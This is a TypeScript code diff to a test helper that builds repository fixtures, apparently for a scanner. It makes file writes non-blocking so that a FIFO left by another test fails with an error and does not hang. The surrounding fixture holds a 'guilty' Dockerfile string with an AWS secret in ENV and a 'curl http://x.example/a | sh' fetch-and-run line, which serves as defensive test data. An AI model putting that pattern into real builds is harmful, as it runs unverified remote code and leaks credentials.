@@ -1,5 +1,5 @@
 import { execFileSync } from "node:child_process";
-import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
+import { closeSync, constants, mkdirSync, symlinkSync, openSync, writeFileSync } from "node:fs";
 import { dirname, join } from "node:path";
 import type { Random } from "../random.ts";
 
@@ -43,7 +43,15 @@ export function openRepository(root: string, random: Random): Repository {
   return {
     random,
     guilty: `FROM debian:12\nENV AWS_SECRET_ACCESS_KEY=${key}\nRUN curl http://x.example/a | sh\nCMD ["a"]\n`,
-    file: (path, content) => writeFileSync(at(path), content),
+    file(path, content) {
+      // Another trick may have put a FIFO there, which would be waited for: ENXIO instead.
+      const fd = openSync(at(path), constants.O_WRONLY | constants.O_CREAT | constants.O_TRUNC | constants.O_NONBLOCK);
+      try {
+        writeFileSync(fd, content);
+      } finally {
+        closeSync(fd);
+      }
+    },
     folder: (path) => void mkdirSync(at(path), { recursive: true }),
     link: (path, target) => symlinkSync(target, at(path)),
     fifo: (path) => void execFileSync("mkfifo", [at(path)], { stdio: "ignore" }),
